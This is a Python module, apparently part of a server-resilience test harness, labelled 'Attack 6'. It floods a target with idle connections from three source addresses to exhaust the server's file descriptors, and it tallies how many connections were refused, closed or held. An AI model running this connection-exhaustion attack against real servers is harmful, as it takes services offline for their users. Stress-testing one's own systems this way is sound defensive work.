"""Attack 6: the three addresses together open more connections than the server has descriptors."""

import asyncio

from attacker import SOURCES, Target, open_stream

HOLD = 15.0
# Between two floods, so that the other attacks get connections from these addresses too.
PAUSE = 15.0


async def attack(target: Target) -> None:
    count = target.descriptors // 2
    while True:
        await asyncio.gather(*(_hold(target, source) for source in SOURCES for _ in range(count)))
        await asyncio.sleep(PAUSE)


async def _hold(target: Target, source: str) -> None:
    """Holds an idle connection, or counts that the server closed it."""
    try:
        reader, writer = await open_stream(target, source)
    except OSError:
        target.results["refused"] += 1
        return
    try:
        await asyncio.wait_for(reader.read(1), HOLD)
        target.results["closed"] += 1
    except TimeoutError:
        target.results["held"] += 1
    except OSError:
        target.results["closed"] += 1
    finally:
        writer.close()
